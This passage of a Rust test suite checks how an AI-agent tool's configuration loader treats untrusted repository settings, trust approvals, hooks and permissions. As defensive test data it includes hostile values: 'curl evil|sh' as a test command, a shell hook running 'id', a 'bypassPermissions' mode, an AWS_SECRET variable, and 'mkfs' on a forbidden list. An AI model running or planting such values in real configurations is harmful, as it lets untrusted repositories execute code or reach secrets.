            b"test_command: \"touch /tmp/pwned\"\nhooks:\n  pre_merge: [\"sh\",\"-c\",\"id\"]\n".to_vec(),
            "f:2: unknown key `hooks`",
        ),
        (
            b"trust: {approved: true}\npermissions: {defaultMode: bypassPermissions}\n".to_vec(),
            "f:1: unknown key `trust`",
        ),
    ]
}

#[test]
fn m_a9_m_s19_hostile_files_are_refused_at_once() {
    for (bytes, wanted) in refusals() {
        let file = ("f".to_owned(), bytes.clone()).into();
        let flags = Flags::default();
        let inputs = Inputs { repository: &[], approved: false, user: &[], file: Some(&file), flags: &flags };
        let start = cpu_time();
        let faults = Settings::resolve(&inputs).unwrap_err().to_string();
        let took = cpu_time() - start;
        let head = String::from_utf8_lossy(&bytes[..bytes.len().min(60)]).into_owned();
        assert!(faults.starts_with(wanted), "{head:?}: {faults}");
        // Far more than it takes on a busy machine, and far less than what a hostile file would cost if it were expanded.
        assert!(took < Duration::from_secs(10), "{head:?}: {took:?}");
    }
}

#[test]
fn harmless_oddities_are_read() {
    for odd in [
        "\u{feff}strategy: pdca\n",
        "models:\n  default: haiku\nstrategy: pdca\n",
        "--- # one\n{strategy: pdca}\n...\n",
    ] {
        assert_eq!(Test::new().repo(odd).settings().strategy(), Some(Strategy::Pdca));
    }
}

/// What this thread has used. The clock on the wall would count what else the machine does.
fn cpu_time() -> Duration {
    let time = rustix::time::clock_gettime(rustix::time::ClockId::ThreadCPUTime);
    Duration::try_from(time).unwrap()
}

#[test]
fn m_s20_large_files_cost_little() {
    let most = yaml::MOST_BYTES;
    let keys: String = (0..).map(|n| format!("k{n}:\n")).take(most / 9).collect();
    for text in [
        "#".repeat(most),
        "a: [".to_owned() + &"1,".repeat(most / 2 - 4) + "]",
        "a: \"".to_owned() + &"\\\"".repeat(most / 2 - 4) + "\"",
        "a: ".to_owned() + &"x ".repeat(most / 2 - 4),
        "\n".repeat(most),
        "a:\n".to_owned() + &" - b\n".repeat(most / 5 - 2),
        "a: |\n".to_owned() + &"  x\n".repeat(most / 4 - 2),
        "a".repeat(most),
        "{".to_owned() + &"a,".repeat(most / 2 - 4),
        "a: ".repeat(most / 3),
        ": ".repeat(most / 2),
        "'".repeat(most),
        "? a\n".repeat(most / 4),
        keys,
    ] {
        assert!(text.len() <= most);
        let start = cpu_time();
        let _ = yaml::read("f", text.as_bytes());
        let took = cpu_time() - start;
        assert!(took < Duration::from_secs(30), "{:?}: {took:?}", &text[..20]);
    }
}

/// Damage in every place, of a kind that means something to the reader.
#[test]
fn no_damage_panics() {
    let good = "a: {b: [1, 'x', \"y\\n\"]}\nc:\n  - d: |\n      e\n    f: >-\n      g\n? h\n: i\n# j\n";
    for at in 0..good.len() {
        let _ = yaml::read("f", &good.as_bytes()[..at]);
        for byte in b"\0\t\n\r !\"#%&'*,-:>?@[]`{|}~\x80\xff" {
            let mut bytes = good.as_bytes().to_vec();
            bytes[at] = *byte;
            let _ = yaml::read("f", &bytes);
            bytes.insert(at, *byte);
            let _ = yaml::read("f", &bytes);
        }
    }
}

// What an unapproved repository gets

#[test]
fn inert_values_are_used_and_guarded_ones_withheld() {
    let repo = "workflow: fast\ntest_command: curl evil|sh\nagents:\n  maker: 'cmd:evil'\n  env: [AWS_SECRET]\nmodels: {default: haiku}\n\
                git:\n  auto_merge: true\n  merge_strategy: squash\n  branch_prefix: archeflow/x/\n";
    let test = || Test::new().repo(repo);
    let settings = test().settings();
    assert_eq!(settings.workflow(), Some(Workflow::Fast));
    let policy = settings.policy();
    assert_eq!(policy.models.default, Some(Tier::Haiku));
    assert_eq!(policy.git.merge_strategy, MergeStrategy::Squash);
    assert_eq!((policy.test_command, policy.agents.of("maker")), (None, ""));
    assert!(!settings.auto_merge() && settings.variables().is_empty());
    assert_eq!(settings.branch_prefix(), "archeflow/");
    assert_eq!(
        held(&settings),
        [
            ".archeflow/config.yaml:2 test_command=curl evil|sh",
            ".archeflow/config.yaml:4 agents.maker=cmd:evil",
            ".archeflow/config.yaml:5 agents.env=[AWS_SECRET]",
            ".archeflow/config.yaml:8 git.auto_merge=true",
            ".archeflow/config.yaml:10 git.branch_prefix=archeflow/x/",
        ]
    );
    let row = settings.show().into_iter().find(|row| row.key == "test_command").unwrap();
    assert_eq!((row.value.as_str(), row.source), ("", Source::BuiltIn));
    assert_eq!(row.note, "none; `curl evil|sh` from .archeflow/config.yaml:2 is not in force: not approved");
    let row = settings.show().into_iter().find(|row| row.key == "agents.maker").unwrap();
    assert!(row.note.contains("`cmd:evil` from .archeflow/config.yaml:4 is not in force"));

    let settings = test().approved().settings();
    assert_eq!(settings.withheld(), []);
    assert_eq!(settings.policy().test_command, text("curl evil|sh"));
    assert_eq!(settings.policy().agents.of("maker"), "cmd:evil");
    assert!(settings.auto_merge());

    let settings = test().user("test_command: make\n").settings();
    assert_eq!(settings.policy().test_command, text("make"));
    let overruled = settings.withheld().iter().filter(|held| held.overruled.is_some()).count();
    assert_eq!(overruled, 1);
}

#[test]
fn a_repository_may_lower_limits_but_not_raise_them() {
    for (text, used) in [
        ("limits: {silence_seconds: 299}", true),
        ("limits: {silence_seconds: 300}", true),
        ("limits: {silence_seconds: 301}", false),
        ("limits: {maker_minutes: 44}", true),
        ("limits: {maker_minutes: 46}", false),
        ("limits: {tests_seconds: 301}", false),
        ("retries: {attempts: 0}", true),
        ("retries: {attempts: 2}", false),
        ("retries: {busy_waits_seconds: [1, 1, 1, 1, 1]}", true),
        ("retries: {busy_waits_seconds: [223]}", false),
        ("retries: {busy_waits_seconds: [1, 1, 1, 1, 1, 1]}", false),
        ("max_cycles: {thorough: 2}", true),
        ("max_cycles: {fast: 2}", false),
        ("confidence_floor: 0.500001", true),
        ("confidence_floor: 0.499999", false),
        ("raised: {severity: {credential: CRITICAL}}", true),
        ("raised: {severity: {credential: WARNING}}", false),
        ("raised: {binary_bytes: 10}", true),
        ("raised: {binary_bytes: 1000001}", false),
        ("convergence: {tracked: INFO}", true),
        ("convergence: {tracked: CRITICAL}", false),
        ("convergence: {zero_policy: two_consecutive}", false),
        ("convergence: {diverging_below_percent: 49}", false),
        ("convergence: {diverging_below_percent: 51}", true),
        ("convergence: {oscillating: 3}", false),
        ("git: {auto_merge: false}", true),
    ] {
        let settings = Test::new().repo(text).settings();
        assert_eq!(settings.withheld().is_empty(), used, "{text}");
        if !used {
            assert_eq!(settings.policy(), Policy::default(), "{text}");
        }
        assert_eq!(Test::new().repo(text).approved().settings().withheld(), [], "{text}");
        assert_eq!(Test::new().user(text).settings().withheld(), [], "{text}");
    }
}

/// No key that names a command, program, variable or ref is ever used unapproved, whatever its value.
#[test]
fn nothing_that_runs_or_reaches_is_inert() {
    for key in rows() {
        match key.kind {
            Kind::Command | Kind::Agent | Kind::Agents(_) | Kind::Variables | Kind::Prefix => {
                let guarded = matches!(key.class, SettingClass::Guarded | SettingClass::Own);
                assert!(guarded, "{}", key.path);
            }
            Kind::SecretUrl | Kind::SecretName | Kind::WordList(_) => {
                assert_eq!(key.class, SettingClass::Own, "{}", key.path);
            }
            Kind::Switch
            | Kind::Off(_)
            | Kind::Whole(..)
            | Kind::Limit(..)
            | Kind::Seconds(..)
            | Kind::Minutes(..)
            | Kind::Waits(..)
            | Kind::Share
            | Kind::Words(_)
            | Kind::Tier
            | Kind::Release
            | Kind::Dollars(_)
            | Kind::Workflow
            | Kind::Name
            | Kind::Model
            | Kind::Url
            | Kind::HostKeys(_)
            | Kind::Shares(_)
            | Kind::Names(_)
            | Kind::Folders(_)
            | Kind::Phrases(_) => {}
        }
        if key.path.starts_with("hooks.") {
            assert_eq!(key.class, SettingClass::Guarded, "{}", key.path);
        }
    }
}

#[test]
fn only_files_that_take_part_are_accepted() {
    for path in [
        ".archeflow/notes.yaml",
        "config.yaml",
        ".archeflow/archetypes/archetypes/sage.md",
        ".archeflow/archetypes/sage.txt",
        "/.archeflow/config.yaml",
    ] {
        let faults = Test::new().repo_file(path, "").faults();
        assert_eq!(faults, format!("{path}: this file takes no part in the configuration"));
        let found = personas::find("sage", &[part(path, &sage("x"))], true, &[]).unwrap();
        assert_eq!(found.origin, Origin::BuiltIn, "{path}");
    }
}

// Hooks

#[test]
fn hooks_need_approval_and_abort_only_before_landing() {
    let text = "run-complete: {command: notify}\npre-merge:\n  command: make lint\npost-merge: {command: sync, fail_action: abort}\n";
    let settings = Test::new().hooks(text).settings();
    assert_eq!(settings.policy().hooks, []);
    assert_eq!(settings.withheld().len(), 6);
    assert!(
        held(&settings).contains(&".archeflow/hooks.yaml:3 hooks.pre-merge.command=make lint".to_owned())
    );

    let hooks = Test::new().hooks(text).approved().settings().policy().hooks;
    let hooks: Vec<_> =
        hooks.iter().map(|hook| (hook.point, hook.command.as_str(), hook.fail_action)).collect();
    assert_eq!(
        hooks,
        [
            (HookPoint::PreMerge, "make lint", FailAction::Abort),
            (HookPoint::PostMerge, "sync", FailAction::Abort),
            (HookPoint::RunComplete, "notify", FailAction::Warn),
        ]
    );
    for (text, wanted) in [
        (
            "pre_merge: {command: x}\n",
            "hooks.yaml:1: unknown key `hooks.pre_merge` (did you mean `hooks.pre-merge`?); known in `hooks`: run-start, pre-merge, post-merge, run-complete",
        ),
        (
            "\npre-merge: {fail_action: warn}\n",
            "hooks.yaml:2: the hook `pre-merge` has no command; known in it: command, fail_action",
        ),
        ("pre-merge:\n", "hooks.yaml:1: the hook `pre-merge` has no command"),
        (
            "pre-merge: make\n",
            "hooks.yaml:1: `hooks.pre-merge` is `make`; allowed: the keys command, fail_action",
        ),
        (
            "pre-merge: {command: x, fail_action: ignore}\n",
            "`hooks.pre-merge.fail_action` is `ignore`; allowed: warn, abort",
        ),
        (
            "pre-merge: {command: x, shell: sh}\n",
            "unknown key `hooks.pre-merge.shell`; known in `hooks.pre-merge`: command, fail_action",
        ),
        ("workflow: fast\n", "unknown key `hooks.workflow`"),
    ] {
        let faults = Test::new().hooks(text).faults();
        assert!(faults.contains(wanted), "{faults}\n{wanted}");
    }
}

#[test]
fn a_hook_is_replaced_whole() {
    let mut test = Test::new().hooks("pre-merge: {command: a, fail_action: warn}\n").approved();
    test.user.push(part("/home/me/.config/archeflow/hooks.yaml", "pre-merge: {command: b}\n"));
    let hooks = test.settings().policy().hooks;
    assert_eq!((hooks[0].command.as_str(), hooks[0].fail_action), ("b", FailAction::Abort));
}

// Archetypes

fn sage(prompt: &str) -> String {
    let (_, text) = ARCHETYPES[5];
    let header = text.split("\n---\n").next().unwrap();
    format!("{header}\n---\n\n{prompt}\n")
}

const SAGE: &str = ".archeflow/archetypes/sage.md";
const USER_SAGE: &str = "/home/me/.config/archeflow/archetypes/sage.md";

#[test]
fn the_repository_then_the_user_then_the_built_in() {
    let repo = [part(SAGE, &sage("theirs"))];
    let user = [part(USER_SAGE, &sage("mine"))];
    let theirs = Origin::Repo { path: SAGE.to_owned() };
    let mine = Origin::User { path: USER_SAGE.to_owned() };
    for (repo, approved, user, prompt, origin, withheld) in [
        (&repo[..], true, &user[..], "theirs\n", theirs.clone(), false),
        (&repo, false, &user, "mine\n", mine.clone(), true),
        (&repo, true, &[], "theirs\n", theirs, false),
        (&[], false, &user, "mine\n", mine, false),
        (&repo, false, &[], "## Lens", Origin::BuiltIn, true),
        (&[], true, &[], "## Lens", Origin::BuiltIn, false),
    ] {
        let found = personas::find("sage", repo, approved, user).unwrap();
        assert!(found.persona.prompt.starts_with(prompt));
        assert_eq!(found.origin, origin);
        assert_eq!(found.withheld, withheld.then(|| SAGE.to_owned()));
        assert_eq!(found.digest.len(), 32);
    }
    let guardian = personas::find("guardian", &repo, true, &user).unwrap();
    assert_eq!(guardian.origin, Origin::BuiltIn);
}

#[test]
fn an_override_has_to_be_what_its_name_says() {
    for (name, content, wanted) in [
        ("sage", sage("x").replace("name: sage", "name: poet"), "the header names `poet`, the file `sage`"),
        ("poet", sage("x"), "the header names `sage`, the file `poet`"),
        (
            "sage",
            sage("x").replace("role: reviewer", "role: gatekeeper"),
            "line 8: a gatekeeper never sees `proposal`",
        ),
        (
            "sage",
            sage("x")
                .replace("role: reviewer", "role: gatekeeper")
                .replace("sees: proposal, diff, summary", "sees: diff"),
            "the role is `gatekeeper`; `sage` is built in as `reviewer` and has to stay that",
        ),
        (
            "sage",
            sage("x").replace("sees: proposal", "sees: research, proposal"),
            "a reviewer never sees `research`",
        ),
        ("sage", sage("x").replace("tier:", "model:"), "line 5: unknown key `model`"),
        ("sage", sage(&"x".repeat(65_536)), "at most 65536 are read"),
    ] {
        let path = format!(".archeflow/archetypes/{name}.md");
        let faults = personas::find(name, &[part(&path, &content)], true, &[]).unwrap_err().to_string();
        assert!(faults.contains(wanted) && faults.starts_with(&path), "{faults}");
    }
    let faults = personas::find("poet", &[], true, &[]).unwrap_err().to_string();
    assert!(faults.starts_with("poet: unknown archetype; known: explorer, creator"), "{faults}");
    let poet = part(".archeflow/archetypes/poet.md", &sage("x").replace("name: sage", "name: poet"));
    let faults = personas::find("poet", std::slice::from_ref(&poet), false, &[]).unwrap_err().to_string();
    assert!(
        faults.contains("only known from .archeflow/archetypes/poet.md, which is not approved"),
        "{faults}"
    );
    assert_eq!(personas::find("poet", &[poet], true, &[]).unwrap().persona.archetype.name, "poet");
}

#[test]
fn archetypes_of_files_can_be_configured_and_wait_for_approval() {
    let test = || {
        Test::new()
            .repo("models: {archetypes: {poet: opus}}\n")
            .repo_file(".archeflow/archetypes/poet.md", &sage("a\nb").replace("name: sage", "name: poet"))
            .repo_file(SAGE, &sage("x"))
    };
    let settings = test().settings();
    assert_eq!(settings.policy().models.archetypes["poet"], Tier::Opus);
    let keys: Vec<&str> = settings.withheld().iter().map(|held| held.key.as_str()).collect();
    assert_eq!(keys, ["archetypes.poet", "archetypes.sage"]);
    let row = settings.show().into_iter().find(|row| row.key == "archetypes.poet").unwrap();
    assert!(row.note.contains("lines of instructions, digest "), "{}", row.note);
    assert_eq!(test().approved().settings().withheld(), []);
}

// Trust

struct Place {
    temp: TempDir,
}

impl Place {
    fn new() -> Self {
        let place = Place { temp: TempDir::new().unwrap() };
        for folder in ["repo", "repo/nested", "copy"] {
            fs::create_dir(place.path(folder)).unwrap();
        }
        place
    }

    fn path(&self, name: &str) -> PathBuf {
        self.temp.path().join(name)
    }

    fn state(&self) -> PathBuf {
        self.path("state")
    }

    fn store(&self) -> PathBuf {
        self.path("state/trust.jsonl")
    }

    fn offer(&self, root: &str, config: &str) -> Offer {
        Offer {
            folder: String::new(),
            root: self.path(root),
            files: vec![part(REPOSITORY_CONFIG, config), part(REPOSITORY_HOOKS, "")],
            instructions: Vec::new(),
        }
    }

    fn trust(&self) -> Trust {
        Trust::open(&self.state()).unwrap()
    }

    fn refused(&self) -> String {
        match Trust::open(&self.state()) {
            Err(error @ TrustError::Refused { .. }) => error.to_string(),
            other => panic!("{other:?}"),
        }
    }
}

#[test]
fn an_approval_is_for_these_bytes_in_this_place() {
    let place = Place::new();
    let config = "test_command: make\n";
    let offer = place.offer("repo", config);
    let mut trust = place.trust();
    assert!(!trust.approved(&offer));
    assert!(!place.state().exists(), "asking leaves no trace");
    trust.approve(&offer, "2026-04-08").unwrap();
    assert!(trust.approved(&offer));
    assert!(place.trust().approved(&offer), "it outlives the process");
    assert_eq!(fs::metadata(place.store()).unwrap().permissions().mode() & 0o7777, 0o600);
    assert_eq!(fs::metadata(place.state()).unwrap().permissions().mode() & 0o7777, 0o700);

    for (n, byte) in offer.files[0].1.clone().into_iter().enumerate() {
        let mut other = offer.clone();
        other.files[0].1[n] = byte ^ 1;
        assert!(!trust.approved(&other), "byte {n}");
    }
    let mut more = offer.clone();
    more.files.push(part(SAGE, ""));
    let mut fewer = offer.clone();
    fewer.files.pop();
    let mut renamed = offer.clone();
    renamed.files[1].0 = SAGE.to_owned();
    let mut shifted = offer.clone();
    shifted.files[0].1.push(b'#');
    let mut turned = offer.clone();
    turned.files.reverse();
    let elsewhere = ["copy", "repo/nested", "gone"].map(|root| place.offer(root, config));
    for other in [&more, &fewer, &renamed, &shifted].into_iter().chain(&elsewhere) {
        assert!(!trust.approved(other), "{other:?}");
    }
    assert!(trust.approved(&turned), "the order of the files means nothing");
    symlink(place.path("repo"), place.path("link")).unwrap();
    assert!(trust.approved(&place.offer("link", config)), "another name of the same place");

    fs::rename(place.path("repo"), place.path("moved")).unwrap();
    assert!(!trust.approved(&place.offer("moved", config)));
}

#[test]
fn approvals_are_replaced_shown_and_revoked() {
    let place = Place::new();
    let (first, other) =
        (place.offer("repo", "test_command: make\ngit: {auto_merge: true}\n"), place.offer("copy", ""));
    let mut trust = place.trust();
    assert_eq!(trust.last(&first.root), None);
    assert_eq!(first.changes(None).unwrap().len(), 2);
    trust.approve(&first, "monday").unwrap();
    let mut second_process = place.trust();
    second_process.approve(&other, "monday").unwrap();

    let next = place.offer("repo", "workflow: fast\ntest_command: make all\nagents: {maker: 'cmd:codex'}\n");
    let before = trust.last(&next.root).unwrap();
    assert_eq!((before.at.as_str(), before.guarded.len()), ("monday", 2));
    let change = |key: &str, before: Option<&str>, after: Option<&str>| TrustChange {
        key: key.to_owned(),
        before: before.map(str::to_owned),
        after: after.map(str::to_owned),
    };
    assert_eq!(
        next.changes(Some(before)).unwrap(),
        [
            change("agents.maker", None, Some("cmd:codex")),
            change("git.auto_merge", Some("true"), None),
            change("test_command", Some("make"), Some("make all")),
        ]
    );
    trust.approve(&next, "tuesday").unwrap();
    assert!(trust.approved(&next) && !trust.approved(&first), "the newer one replaces the older");
    assert!(trust.approved(&other), "what another process approved meanwhile is kept");
    assert_eq!(fs::read_to_string(place.store()).unwrap().lines().count(), 2);

    assert!(trust.revoke(&next.root).unwrap());
    assert!(!trust.revoke(&next.root).unwrap());
    assert!(!trust.approved(&next) && place.trust().approved(&other));
    assert_eq!(place.trust().last(&next.root), None);
}

#[test]
fn what_cannot_be_read_cannot_be_approved() {
    let place = Place::new();
    let error = place.trust().approve(&place.offer("repo", "test_comand: x\n"), "now").unwrap_err();
    assert!(matches!(error, TrustError::Unreadable(_)), "{error}");
    assert!(error.to_string().contains("unknown key `test_comand`"));
    assert!(!place.store().exists());
}

#[test]
fn a_store_others_could_have_written_is_refused() {
    let offer = |place: &Place| place.offer("repo", "test_command: make\n");
    let written = || {
        let place = Place::new();
        place.trust().approve(&offer(&place), "now").unwrap();
        place
    };
    for mode in [0o602, 0o620, 0o640, 0o604, 0o666, 0o700] {
        let place = written();
        fs::set_permissions(place.store(), fs::Permissions::from_mode(mode)).unwrap();
        assert!(place.refused().contains("refused: has mode"), "{mode:o}");
        let place = written();
        let mut early = place.trust();
        fs::set_permissions(place.store(), fs::Permissions::from_mode(mode)).unwrap();
        assert!(matches!(early.approve(&offer(&place), "now"), Err(TrustError::Refused { .. })));
    }

    let place = written();
    fs::rename(place.store(), place.path("elsewhere")).unwrap();
    symlink(place.path("elsewhere"), place.store()).unwrap();
    assert!(place.refused().contains("symbolic link"));
    fs::remove_file(place.store()).unwrap();
    fs::hard_link(place.path("elsewhere"), place.store()).unwrap();
    assert!(place.refused().contains("second name"));
    fs::remove_file(place.store()).unwrap();
    fs::create_dir(place.store()).unwrap();
    assert!(place.refused().contains("is not a file"));

    // Only root can give a file away.
    let place = written();
    if chown(place.store(), Some(12_345), None).is_ok() {
        assert!(place.refused().contains("belongs to another user"));
    }
    let place = written();
    if chown(place.state(), Some(12_345), None).is_ok() {
        assert!(place.refused().contains("belongs to another user"));
    }

    let place = written();
    fs::remove_file(place.path("state/trust.lock")).unwrap();
    symlink(place.path("elsewhere"), place.path("state/trust.lock")).unwrap();
    let error = place.trust().approve(&offer(&place), "now").unwrap_err();
    assert!(matches!(error, TrustError::Refused { .. }), "{error}");
    assert!(!place.path("elsewhere").exists());

    for mode in [0o777, 0o770, 0o702] {
        let place = written();
        fs::set_permissions(place.state(), fs::Permissions::from_mode(mode)).unwrap();
        assert!(place.refused().contains("only its owner may write to it"));
    }
    let place = written();
    fs::rename(place.state(), place.path("real")).unwrap();
    symlink(place.path("real"), place.state()).unwrap();
    assert!(place.refused().contains("symbolic link"));
}

#[test]
fn a_damaged_store_approves_nothing() {
    for damage in ["{", "{}\n", "null\n", "{\"root\":\"/\"}\n", "\u{0}", "\n"] {
        let place = Place::new();
        place.trust().approve(&place.offer("repo", ""), "now").unwrap();
        let text = fs::read_to_string(place.store()).unwrap();
        fs::write(place.store(), text + damage).unwrap();
        assert!(place.refused().contains("is damaged"), "{damage:?}");
    }
    let place = Place::new();
    place.trust().approve(&place.offer("repo", ""), "now").unwrap();
    fs::write(place.store(), b"\xff\n").unwrap();
    assert!(place.refused().contains("is damaged"));
}

#[test]
fn a_repository_holds_neither_approvals_nor_the_users_voice() {
    let place = Place::new();
    let state = place.path("repo/.archeflow/state");
    let mut trust = Trust::open(&state).unwrap();
    let error = trust.approve(&place.offer("repo", ""), "now").unwrap_err();
    assert!(matches!(error, TrustError::Refused { .. }), "{error}");
    assert!(!state.exists());

    let folder = place.path("repo/config");
    assert!(
        user::read(&folder, &place.path("repo")).unwrap_err().to_string().contains("inside the repository")
    );
    symlink(place.path("repo"), place.path("link")).unwrap();
    assert!(user::read(&place.path("link/config"), &place.path("repo")).is_err());
}

#[test]
fn many_processes_approve_at_once() {
    let place = Place::new();
    let roots: Vec<String> = (0..8).map(|n| format!("r{n}")).collect();
    std::thread::scope(|scope| {
        for root in &roots {
            fs::create_dir(place.path(root)).unwrap();
            // Often enough that a store is read while another process replaces it.
            scope.spawn(|| {
                (0..50).for_each(|_| place.trust().approve(&place.offer(root, ""), "now").unwrap());
            });
        }
    });
    let trust = place.trust();
    assert!(roots.iter().all(|root| trust.approved(&place.offer(root, ""))));
}

// The user's folder

#[test]
fn the_users_folder_is_read_if_it_is_the_users() {
    let place = Place::new();
    let folder = place.path("config");
    let read = || user::read(&folder, &place.path("repo"));
    assert_eq!(read().unwrap(), []);
    fs::create_dir_all(folder.join("archetypes")).unwrap();
    fs::write(folder.join("config.yaml"), "workflow: fast\n").unwrap();
    fs::write(folder.join("archetypes/sage.md"), sage("mine")).unwrap();
    fs::write(folder.join("archetypes/notes.txt"), "").unwrap();
    let parts = read().unwrap();
    assert_eq!(parts.len(), 2);
    let found = personas::find("sage", &[], false, &parts).unwrap();
    assert_eq!(found.origin, Origin::User { path: folder.join("archetypes/sage.md").display().to_string() });
    let flags = Flags::default();
    let inputs = Inputs { repository: &[], approved: false, user: &parts, file: None, flags: &flags };
    assert_eq!(Settings::resolve(&inputs).unwrap().workflow(), Some(Workflow::Fast));

    fs::set_permissions(folder.join("config.yaml"), fs::Permissions::from_mode(0o666)).unwrap();
    assert!(read().unwrap_err().to_string().contains("can be written by all users"));
    fs::remove_file(folder.join("config.yaml")).unwrap();
    fs::create_dir(folder.join("config.yaml")).unwrap();
    assert!(read().unwrap_err().to_string().contains("is not a file"));
    assert!(
        user::read_named(&place.path("none.yaml"))
            .unwrap_err()
            .to_string()
            .contains("no such file or folder")
    );

    let (xdg, home) = (Path::new("/x"), Path::new("/h"));
    for (xdg, home, wanted) in [
        (Some(xdg), Some(home), Some("/x/archeflow")),
        (None, Some(home), Some("/h/.config/archeflow")),
        (Some(Path::new("x")), Some(home), Some("/h/.config/archeflow")),
        (Some(Path::new("")), None, None),
    ] {
        assert_eq!(user::folder(xdg, home), wanted.map(PathBuf::from));
    }
}

// The manual

#[test]
fn the_manual_has_the_table_of_keys() {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("../docs/configuration.md");
    let page = fs::read_to_string(&path).unwrap();
    let wanted = approval::in_manual(&page).expect("the page marks where the table begins and ends");
    assert!(page == wanted, "docs/configuration.md is out of date; run `cargo xtask docs`");
}

#[test]
fn bx_34_shadows_are_switched_off_by_the_environment_and_their_limits_by_off() {
    let off = Flags { shadows: text("off"), ..Flags::default() };
    let policy =
        Test::new().user("shadows: {rabbit_hole: {words: off, files: 40}}\n").flags(off).settings().policy();
    assert!(!policy.shadows.enabled);
    assert_eq!(policy.shadows.rabbit_hole.words, None);
    assert_eq!(policy.shadows.rabbit_hole.files, Some(40));
    assert_eq!(Test::new().settings().policy().shadows, archeflow_core::model::Shadows::default());
    assert_eq!(
        Test::new().settings().policy().system_shadows,
        archeflow_core::model::SystemShadows::default()
    );
    let on = Flags { shadows: text("on"), ..Flags::default() };
    assert!(Test::new().user("shadows: {enabled: false}\n").flags(on).settings().policy().shadows.enabled);
}

// Costs

/// AF-014, BX-24: prices of the user lie over the built-in page, under either name of a tier; a repository can't make a
/// run look cheaper than it is.
#[test]
fn bx_24_prices_and_limits_have_their_layers() {
    use archeflow_core::model::{Money, Tier};
    use archeflow_core::rules::prices::built_in;
    assert_eq!(Test::new().settings().prices(), built_in().tiers);
    let user = "models:\n  prices:\n    premium: {input: 8, cache_write: 9.5}\n    haiku: {output: 0}\n";
    let prices = Test::new().user(user).settings().prices();
    let opus = &prices[&Tier::Opus];
    assert_eq!(
        (opus.input, opus.cache_read, opus.cache_write),
        (Money(8_000_000), Money(800_000), Money(9_500_000))
    );
    assert_eq!((opus.output, prices[&Tier::Haiku].output), (built_in().tiers[&Tier::Opus].output, Money(0)));
    let repo = "models:\n  prices:\n    opus: {input: 0}\ncosts: {budget_usd: 2.5, per_agent_usd: 0, warn_at_percent: 60}\n";
    let settings = Test::new().repo(repo).settings();
    let withheld: Vec<&str> = settings.withheld().iter().map(|held| held.key.as_str()).collect();
    assert_eq!(withheld, ["models.prices.opus.input", "costs.per_agent_usd", "costs.warn_at_percent"]);
    assert_eq!(settings.prices(), built_in().tiers);
    assert_eq!(settings.policy().costs.budget_usd, Some(Money(2_500_000)), "a budget only tightens");
    let both = Test::new().repo("costs: {budget_usd: 900}\n").user("costs: {budget_usd: 3}\n").settings();
    assert_eq!(both.policy().costs.budget_usd, Some(Money(3_000_000)), "the user's word is the stronger");
    let typed =
        Test::new().user("costs: {budget_usd: 3}\n").flags(Flags { budget: text("4"), ..Flags::default() });
    assert_eq!(typed.settings().policy().costs.budget_usd, Some(Money(4_000_000)));
}

/// What the loop around models works with where nobody says otherwise is what the table of keys says.
#[test]
fn bx_16_models_without_a_client_are_set_by_keys() {
    let built_in = archeflow_host::model_agent::ModelSettings::default();
    assert_eq!(Test::new().settings().loops(), built_in);
    let settings = Test::new()
        .user(
            "models:\n  provider: ollama\n  mapping: {cheap: small:1b, opus: large:70b}\n  max_turns: 5\n  max_tokens: 900\n  \
             retry_waits_seconds: [2]\n  keys: [example.org=KEY_A]\n  ollama:\n    base_url: https://gpu.example.org/\n    \
             allow_remote: true\n    context: 4096\nlimits: {silence_seconds: 10}\n",
        )
        .settings();
    let loops = settings.loops();
    assert_eq!(
        (loops.turns, loops.tokens, loops.waits_ms, loops.context),
        (5, Some(900), vec![2_000], 4_096)
    );
    assert_eq!((loops.ollama_url.as_deref(), loops.ollama_remote), (Some("https://gpu.example.org"), true));
    let models: Vec<&str> = loops.mapping.values().map(String::as_str).collect();
    assert_eq!(models, ["small:1b", "large:70b", "qwen3:14b"]);
    assert!(loops.patience_ms < 10_000, "it gives up before it is given up");
    assert_eq!(settings.model_keys(), ["example.org=KEY_A"]);
    assert_eq!(settings.policy().agents.default, "ollama");
    let named = Test::new().user("models: {provider: ollama}\nagents: {default: claude}\n").settings();
    assert_eq!(named.policy().agents.default, "claude");
}

#[test]
fn pj_30_the_thresholds_of_the_loop_are_settings() {
    use archeflow_core::model::{Approval, LimitMode, LoopPolicy};
    assert_eq!(Test::new().settings().looping(), LoopPolicy::default(), "the defaults are the core's own");
    let text = "loop: {max_lines: 10, limit_mode: both_required, approval: goal_complete, forbidden: [mkfs], \
                linter: make lint, checkpoint_minutes: 5, risks: {low: [painting]}, goals: {pass_percent: 90}}\n";
    let looping = Test::new().user(text).settings().looping();
    let expected = LoopPolicy {
        lines: 10,
        limit_mode: LimitMode::BothRequired,
        approval: Approval::GoalComplete,
        forbidden: vec!["mkfs".to_owned()],
        linter: Some("make lint".to_owned()),
        checkpoint_ms: 5 * 60_000,
        ..LoopPolicy::default()
    };
    assert_eq!(looping.risks.low, ["painting"]);
    assert_eq!(looping.goals.pass_rate, 90);
    assert_eq!(
        LoopPolicy { risks: expected.risks.clone(), goals: expected.goals.clone(), ..looping },
        expected
    );
}
